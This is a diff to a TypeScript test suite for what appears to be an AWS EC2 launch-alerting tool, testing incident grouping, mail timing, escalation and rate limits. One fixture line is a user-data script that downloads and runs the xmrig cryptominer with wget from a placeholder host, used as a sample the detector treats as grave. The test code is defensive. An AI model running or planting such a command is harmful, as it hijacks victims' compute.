@@ -1,8 +1,13 @@
 import { describe, expect, it } from 'vitest';
+import { startBatch } from '../../../lambda/batch/batch.ts';
+import { createMemory } from '../../../lambda/batch/memory.ts';
+import { joinIncident } from '../../../lambda/incidents/incidents.ts';
 import { runInstances, stateChange } from '../../support/events.ts';
-import { createWorld, instance, start, type World } from '../../support/world.ts';
+import { ACCOUNT, incidentLaunch } from '../../support/incidents.ts';
+import { createWorld, instance, settings, start, type World } from '../../support/world.ts';
 
 const minute = 60_000;
+const hour = 60 * minute;
 const miner = '#!/bin/sh\nwget https://example.com/xmrig && ./xmrig --donate-level 1';
 
 /** The n-th instance, and the event that tells of its start. */
@@ -21,7 +26,7 @@ describe('an incident', () => {
   });
 
   it('gathers what follows into one mail at 5, 15 and 60 minutes, and then hourly', async () => {
-    const instances = Array.from({ length: 10 }, (_, n) => instance({ instanceId: id(n) }));
+    const instances = Array.from({ length: 10 }, (_, n) => instance({ instanceId: id(n), instanceType: 'p3.2xlarge' }));
     const world = createWorld({ instances });
     for (const [n, pause] of [1, 3, 3, 7, 30, 30, 30, 30].entries()) {
       await world.handle([at(n)]);
@@ -70,26 +75,10 @@ describe('an incident', () => {
     expect(world.mails.at(-1)?.instances).toBe(62);
   });
 
-  it('holds the mail at 60 minutes back by a minute where escalations came late, and loses nothing', async () => {
-    const instances = [
-      ...Array.from({ length: 60 }, (_, n) => instance({ instanceId: id(n) })),
-      instance({ instanceId: id(100), instanceType: 'p3.2xlarge' }),
-      instance({ instanceId: id(101), userData: miner }),
-    ];
-    const world = createWorld({ instances });
-    for (let n = 0; n < 59; n++) {
-      await world.handle([at(n)]);
-      if (n === 20) await world.handle([at(100)]);
-      if (n === 30) await world.handle([at(101)]);
-      await world.pass(minute);
-    }
-    await world.pass(90 * minute);
-    expect(minutesOf(world)).toEqual([0, 5, 15, 20, 30, 61]);
-    expect(world.mails.at(-1)?.instances).toBe(61);
-  });
-
   it('closes after an hour without an alert: the next one is a new incident with a first mail of its own', async () => {
-    const world = createWorld({ instances: [instance({ instanceId: id(1) }), instance({ instanceId: id(2) })] });
+    const world = createWorld({
+      instances: [1, 2].map((n) => instance({ instanceId: id(n), instanceType: 'p3.2xlarge' })),
+    });
     const [first] = await world.handle([at(1)]);
     await world.pass(61 * minute);
     const [second] = await world.handle([at(2)]);
@@ -106,10 +95,10 @@ describe('an incident', () => {
     );
     const world = createWorld({ instances, settings: { allow } });
     await world.handle([at(1)]);
-    await world.pass(40 * minute);
+    await world.pass(23 * hour);
     const later = await world.handle([at(1), at(2)]);
     expect(later.map((outcome) => outcome.decision.kind)).toEqual(['duplicate', 'expected']);
-    await world.pass(30 * minute);
+    await world.pass(2 * hour);
     await world.handle([at(3)]);
     expect(kindsOf(world)).toEqual(['first', 'first']);
   });
@@ -178,7 +167,146 @@ describe('an incident', () => {
     const [later] = await world.handle([stateChange({ instanceId: id(1), state: 'running' })]);
     expect(later?.decision.kind).toBe('duplicate');
     await world.handle([at(2)]);
-    await world.pass(5 * minute);
+    await world.pass(60 * minute);
     expect(world.mails.at(-1)?.body).toContain('m5.large');
+  });
+});
+
+/** The most mails within any hour. */
+const mostInAnHour = (world: World): number =>
+  Math.max(...world.mails.map(({ time }) => world.mails.filter((m) => m.time >= time && m.time - time <= hour).length));
+
+const places = ['us-east-1', 'eu-west-1', 'sa-east-1'];
+
+describe('a grave incident that gets worse', () => {
+  it('by sixty GPU hosts behind a decoy is mailed at once, and the subject names them', async () => {
+    const decoys = [...places, 'us-east-1', 'us-east-1'].map((region, n) =>
+      instance({ instanceId: id(n), region, instanceType: 't3.nano' }),
+    );
+    const hosts = Array.from({ length: 60 }, (_, n) =>
+      instance({ instanceId: id(100 + n), instanceType: 'p4d.24xlarge' }),
+    );
+    const world = createWorld({ instances: [...decoys, ...hosts] });
+    await world.handle(places.map((region, n) => at(n, region)));
+    expect(world.mails.map(({ verdict }) => verdict)).toEqual(['critical']);
+    for (const n of [3, 4]) {
+      await world.pass(50 * minute);
+      await world.handle([at(n)]);
+    }
+    await world.pass(22 * minute);
+    const before = world.mails.length;
+    await world.handle(hosts.map((_, n) => at(100 + n)));
+    expect(world.mails.length).toBe(before + 1);
+    const mail = world.mails.at(-1);
+    expect(mail).toMatchObject({ kind: 'escalation', verdict: 'critical', instances: 65 });
+    expect(mail?.subject).toMatch(/^\[CRITICAL\] now 60 x p4d\.24xlarge \+ 5 more in 3 Regions/);
+    expect(mail?.body).toContain('New since the last mail: 60 x p4d.24xlarge');
+  });
+
+  it('by the same events received twice is no worse: what joins twice counts once', async () => {
+    const instances = [1, 2, 3].map((n) => instance({ instanceId: id(n), instanceType: 'p3.2xlarge' }));
+    const world = createWorld({ instances });
+    await world.handle([at(1)]);
+    const launch = incidentLaunch({ instanceId: id(1), id: `${ACCOUNT}/us-east-1/${id(1)}`, verdict: 'high' });
+    const memory = () => createMemory(startBatch(world.ports, settings()));
+    for (let n = 0; n < 20; n++) await joinIncident(memory(), ACCOUNT, [{ launch, signals: [] }]);
+    await world.handle([at(2)]);
+    expect(kindsOf(world)).toEqual(['first']);
+  });
+
+  it('again and again is five mails in any hour at most, and the last names everything', async () => {
+    const sizes = [1, 11, 121];
+    const instances = sizes.flatMap((size, step) =>
+      Array.from({ length: size }, (_, n) =>
+        instance({ instanceId: id(10_000 * step + n), region: places[step % 3] ?? '', userData: miner }),
+      ),
+    );
+    const world = createWorld({ instances });
+    for (const [step, size] of sizes.entries()) {
+      for (let n = 0; n < size; n += 100) {
+        const some = Math.min(100, size - n);
+        await world.handle(Array.from({ length: some }, (_, k) => at(10_000 * step + n + k, places[step % 3])));
+      }
+      await world.pass(minute);
+    }
+    await world.pass(3 * hour);
+    expect(mostInAnHour(world)).toBeLessThanOrEqual(5);
+    expect(kindsOf(world).filter((kind) => kind === 'escalation').length).toBeGreaterThan(1);
+    expect(world.mails.at(-1)?.instances).toBe(133);
+  });
+
+  it('by a further account of the organization is mailed at once', async () => {
+    const organization = { id: 'o-ab12cdef34', externalId: 'x', readOnlyRoleName: 'davylamp-reader' };
+    const member = (n: number): string => String(n).repeat(12);
+    const instances = Array.from({ length: 8 }, (_, n) => ({
+      ...instance({ instanceId: id(n), userData: miner }),
+      account: member(n),
+    }));
+    const world = createWorld({ instances, settings: { organization, accountNames: {} } });
+    // Five accounts have incidents of their own; those behind them share the organization's.
+    for (let n = 0; n < 8; n++) {
+      await world.handle([stateChange({ id: `event-${n}`, instanceId: id(n), account: member(n) })]);
+    }
+    expect(world.mails.map(({ kind, accounts }) => [kind, accounts.length])).toEqual([
+      ...Array(5).fill(['first', 1]),
+      ['first', 1],
+      ['escalation', 2],
+      ['escalation', 3],
+    ]);
+    expect(world.mails.at(-1)?.body).toContain(member(7));
+  });
+});
+
+describe('notices', () => {
+  it('name what is new at the next full hour, and more of the same once, at the end of their day', async () => {
+    const instances = Array.from({ length: 10 }, (_, n) =>
+      instance({ instanceId: id(n), instanceType: n === 5 ? 'm5.large' : 't3.micro' }),
+    );
+    const world = createWorld({ instances });
+    for (const n of [0, 1, 2, 3, 4]) {
+      await world.handle([at(n)]);
+      await world.pass(50 * minute);
+    }
+    await world.handle([at(5)]);
+    await world.pass(2 * hour);
+    await world.handle([at(6)]);
+    await world.pass(24 * hour);
+    expect(minutesOf(world)).toEqual([0, 300, 24 * 60]);
+    expect(world.mails.map(({ kind, instances: count }) => [kind, count])).toEqual([
+      ['first', 1],
+      ['follow-up', 6],
+      ['follow-up', 7],
+    ]);
+  });
+
+  it("of a cluster's ordinary nodes are about five mails a day at most", async () => {
+    const types = ['m5.large', 'c5.large', 'r5.large'];
+    const nodes = Array.from({ length: 96 }, (_, n) =>
+      instance({
+        instanceId: id(n),
+        instanceType: types[Math.floor(n / 7) % 3] ?? '',
+        tags: { 'aws:autoscaling:groupName': 'nodes' },
+        launchTime: start + n * 15 * minute,
+      }),
+    );
+    const world = createWorld({ instances: nodes });
+    for (let n = 0; n < 96; n++) {
+      const time = new Date(start + n * 15 * minute).toISOString();
+      await world.handle([stateChange({ id: `event-${n}`, instanceId: id(n), time })]);
+      await world.pass(15 * minute);
+    }
+    expect(world.mails.every(({ verdict }) => verdict === 'notice')).toBe(true);
+    expect(world.mails.length).toBeLessThanOrEqual(5);
+    await world.pass(25 * hour);
+    expect(world.mails.at(-1)?.instances).toBe(96);
+  });
+
+  it('are mailed at once when one turns grave, also hours later', async () => {
+    const instances = [instance({ instanceId: id(1) }), instance({ instanceId: id(2), userData: miner })];
+    const world = createWorld({ instances });
+    await world.handle([at(1)]);
+    await world.pass(20 * hour);
+    await world.handle([at(2)]);
+    expect(kindsOf(world)).toEqual(['first', 'escalation']);
   });
 });
